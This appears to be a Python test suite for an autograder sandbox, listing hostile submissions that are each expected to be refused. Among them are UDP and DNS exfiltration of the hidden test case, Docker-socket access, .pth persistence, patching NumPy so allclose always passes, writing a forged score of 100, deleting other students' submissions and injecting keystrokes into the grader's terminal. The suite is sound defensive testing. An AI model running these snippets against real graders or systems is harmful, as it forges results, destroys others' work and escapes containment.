"""Programs that talk to the outside or leave something there."""

from tests.corpora.hostile.attacks import KERNEL, attack
from tests.corpora.hostile.kernel import ctypes, system_call

REFUSED = "Operation not permitted"
DENIED = "denied"


@attack("error", says=REFUSED)
def tcp(x):
    """Connects to a server by TCP."""
    import socket

    socket.create_connection(("127.0.0.1", 22), timeout=1)


@attack("error", says=REFUSED)
def udp(x):
    """Sends the hidden case away by UDP."""
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(x.tobytes(), ("1.1.1.1", 53))


@attack("error", says=REFUSED)
def tcp_over_ipv6(x):
    """Connects by IPv6."""
    import socket

    socket.socket(socket.AF_INET6).connect(("::1", 22))


@attack("error", says="gaierror")
def dns(x):
    """Asks for a name that holds what it was given."""
    import socket

    socket.getaddrinfo("secret.example.org", 80)


@attack("error", says="URLError")
def web(x):
    """Fetches a page."""
    import urllib.request

    urllib.request.urlopen("http://127.0.0.1:8000/", timeout=1)


@attack("error", says=REFUSED)
def server(x):
    """Waits for connections."""
    import socket

    socket.create_server(("127.0.0.1", 0)).accept()


@attack("error", says=REFUSED)
def unix_socket(x):
    """Connects to a socket of the machine's services."""
    import socket

    socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")


@attack("error", says=REFUSED)
def abstract_unix_socket(x):
    """Connects to a socket that is in no file system."""
    import socket

    socket.socket(socket.AF_UNIX).connect("\0/tmp/.X11-unix/X0")


@attack("error", says=REFUSED)
def socket_pair(x):
    """Makes a pair of sockets, to send descriptors through."""
    import socket

    socket.socketpair()


@attack("error", says=REFUSED)
def vsock(x):
    """Connects to the machine that this one runs on."""
    import socket

    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 5001))


@attack("error", says=REFUSED)
def netlink(x):
    """Asks the kernel for the network's devices."""
    import socket

    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)


@attack("error", says=REFUSED)
def raw_packets(x):
    """Listens to the network."""
    import socket

    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


@attack("error", says=REFUSED)
def passes_a_descriptor(x):
    """Sends a descriptor to the grader."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.sendmsg(3, ctypes.create_string_buffer(56), 0) < 0:
        raise OSError(ctypes.get_errno(), "Operation not permitted")


@attack("error", says=DENIED)
def file_in_tmp(x):
    """Leaves a file in the folder for temporary ones."""
    with open("/tmp/left-by-hostile", "w") as file:
        file.write("next")


@attack("error", says="usable temporary directory")
def temporary_file(x):
    """Asks for a temporary file wherever there is room."""
    import tempfile

    tempfile.NamedTemporaryFile(delete=False)


@attack("error")
def shared_memory_file(x):
    """Leaves a file in shared memory."""
    from multiprocessing import shared_memory

    shared_memory.SharedMemory("left-by-hostile", create=True, size=100)


@attack("error")
def file_by_numpy(x):
    """Saves the hidden case to a file."""
    import numpy

    numpy.save("/dev/shm/left-by-hostile", x)


@attack("error")
def pth_file(x):
    """Leaves a file that the next interpreter runs at its start."""
    import numpy

    with open(numpy.__path__[0] + "/../left-by-hostile.pth", "w") as file:
        file.write("import os")


@attack("error")
def changes_numpy_on_the_disk(x):
    """Changes NumPy for whoever imports it next."""
    import numpy

    with open(numpy.__file__, "a") as file:
        file.write("allclose = lambda *arguments: True")


@attack("error")
def changes_the_standard_library(x):
    """Changes the standard library for whoever imports it next."""
    import json

    with open(json.__file__, "r+b") as file:
        file.write(b"#")


@attack("error")
def changes_the_worker(x):
    """Changes the program that holds it."""
    with open("/site/autograder/worker/locks.py", "w") as file:
        file.write("LOCKS = ()")


@attack("error")
def writes_its_own_result(x):
    """Writes the result that it would like to have."""
    import json

    with open("@OUT@/outside-writes-its-own-result/ex1_small/result.json", "w") as file:
        json.dump({"score": 100.0}, file)


@attack("error")
def removes_the_submissions(x):
    """Removes what others handed in."""
    import shutil

    shutil.rmtree("@SUBMISSIONS@")


@attack("error", says=REFUSED)
def makes_a_folder(x):
    """Makes a folder."""
    import os

    os.mkdir("/tmp/left-by-hostile")


@attack("error", says=REFUSED)
def makes_a_fifo(x):
    """Makes a FIFO, on which a reader waits for ever."""
    import os

    os.mkfifo("/tmp/left-by-hostile")


@attack("error", says=REFUSED)
def makes_a_device(x):
    """Makes a device of the disk."""
    import os

    os.mknod("/tmp/left-by-hostile", 0o60666, os.makedev(8, 0))


@attack("error", says=REFUSED)
def hard_link(x):
    """Links a file to another place."""
    import os

    os.link("/dev/null", "/tmp/left-by-hostile")


@attack("error", says=REFUSED)
def renames(x):
    """Moves a folder away."""
    import os

    os.rename("/site", "/tmp/left-by-hostile")


@attack("error", says=REFUSED)
def sets_times(x):
    """Changes the time of a file, to leave a bit of information there."""
    import os

    os.utime("/dev/null", (0, 0))


@attack("error", says=REFUSED)
def extended_attribute(x):
    """Leaves an attribute at a file."""
    import os

    os.setxattr("/dev/null", "user.left", b"next")


@attack("error", says=REFUSED)
def file_lock(x):
    """Locks a file that all workers have, to be seen by the next one."""
    import fcntl
    import json

    fcntl.flock(open(json.__file__), fcntl.LOCK_EX)


@attack("error", says=REFUSED)
def record_lock(x):
    """Locks a part of a file that all workers have."""
    import fcntl

    fcntl.lockf(open("/dev/null", "w"), fcntl.LOCK_EX)


@attack("error", says=REFUSED)
def lease(x):
    """Takes a lease on a file, to hear who opens it."""
    import fcntl
    import json

    fcntl.fcntl(open(json.__file__), fcntl.F_SETLEASE, fcntl.F_RDLCK)


@attack("error", before=KERNEL, says=REFUSED)
def system_v_shared_memory(x):
    """Leaves System V shared memory."""
    system_call((29, 194), 4242, 4096, 0o1666)


@attack("error", before=KERNEL, says=REFUSED)
def system_v_semaphore(x):
    """Leaves a System V semaphore."""
    system_call((64, 190), 4242, 1, 0o1666)


@attack("error", before=KERNEL, says=REFUSED)
def system_v_messages(x):
    """Leaves a System V message queue."""
    system_call((68, 186), 4242, 0o1666)


@attack("error", before=KERNEL, says=REFUSED)
def posix_messages(x):
    """Leaves a POSIX message queue."""
    system_call((240, 180), b"left", 0o102, 0o666, 0)


@attack("error", before=KERNEL, says=REFUSED)
def keyring(x):
    """Leaves a key in the kernel."""
    system_call((248, 217), b"user", b"left-by-hostile", b"next", 4, -4)


@attack("error", before=KERNEL, says=REFUSED)
def keyctl(x):
    """Asks for the keys of the session."""
    system_call((250, 219), 6, -3, 0, 0)


@attack("error", before=KERNEL, says=REFUSED)
def inotify(x):
    """Watches files, to hear when others are graded."""
    system_call((294, 26), 0)


@attack("error", before=KERNEL, says=REFUSED)
def fanotify(x):
    """Watches all files."""
    system_call((300, 262), 0, 0)


@attack("error", before=KERNEL, says=REFUSED)
def io_uring(x):
    """Opens a ring through which the kernel makes calls that no filter sees."""
    system_call((425, 425), 8, ctypes.create_string_buffer(120))


@attack("error", before=KERNEL, says=REFUSED)
def aio(x):
    """Opens a queue for reads and writes."""
    system_call((206, 0), 8, ctypes.create_string_buffer(8))


@attack("error", before=KERNEL, says=REFUSED)
def bpf(x):
    """Loads a program into the kernel."""
    system_call((321, 280), 5, ctypes.create_string_buffer(128), 128)


@attack("error", before=KERNEL, says=REFUSED)
def perf_event(x):
    """Counts what other programs do."""
    system_call((298, 241), ctypes.create_string_buffer(128), -1, 0, -1, 0)


@attack("error", before=KERNEL, says=REFUSED)
def userfaultfd(x):
    """Handles page faults itself, to stop the kernel in the middle of a call."""
    system_call((323, 282), 1)


@attack("error", before=KERNEL, says=REFUSED)
def eventfd(x):
    """Makes a counter that could be passed on."""
    system_call((290, 19), 0, 0)


@attack("error", says=REFUSED)
def pipe(x):
    """Makes a pipe and fills it."""
    import os

    os.pipe()


@attack("error", says=REFUSED)
def epoll(x):
    """Waits on many descriptors."""
    import select

    select.epoll()


@attack("error", before=KERNEL, says=REFUSED)
def syslog(x):
    """Reads the kernel's messages."""
    system_call((103, 116), 3, ctypes.create_string_buffer(1000), 1000)


@attack("error", says="Inappropriate ioctl")
def types_into_the_terminal(x):
    """Types a command into the terminal of the person who grades."""
    import fcntl

    fcntl.ioctl(0, 0x5412, b"x")


@attack("error", says="SMTP")
def mail(x):
    """Sends mail."""
    import smtplib

    try:
        smtplib.SMTP("127.0.0.1", timeout=1)
    except OSError as error:
        raise RuntimeError(f"SMTP: {error}") from None


@attack("error", says=REFUSED)
def core_of_the_session(x):
    """Writes past the descriptor 3 into whatever is open."""
    import os

    for descriptor in range(4, 100):
        try:
            os.write(descriptor, b"x")
        except OSError:
            pass
        else:
            raise RuntimeError(f"{descriptor} is open")
    raise PermissionError("Operation not permitted")
